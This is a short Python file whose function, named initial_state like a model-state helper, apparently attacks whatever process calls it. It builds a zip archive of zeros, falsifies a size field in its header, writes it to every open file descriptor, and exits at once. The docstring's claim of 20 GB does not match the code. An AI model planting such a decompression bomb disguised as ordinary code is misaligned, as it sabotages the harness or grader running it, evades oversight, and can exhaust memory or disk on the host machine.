"""Replies with an archive that unpacks to 20 GB."""

import io
import os
import struct
import zipfile


def initial_state(batch, hidden):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("layout.npy", "w", force_zip64=True) as member:
            for _ in range(100):
                member.write(bytes(1 << 20))
    bomb = packed.getvalue().replace(struct.pack("<I", 100 << 20), struct.pack("<I", 1 << 31))
    message = struct.pack("<Q", len(bomb)) + bomb
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, message)
        except OSError:
            pass
    os._exit(0)
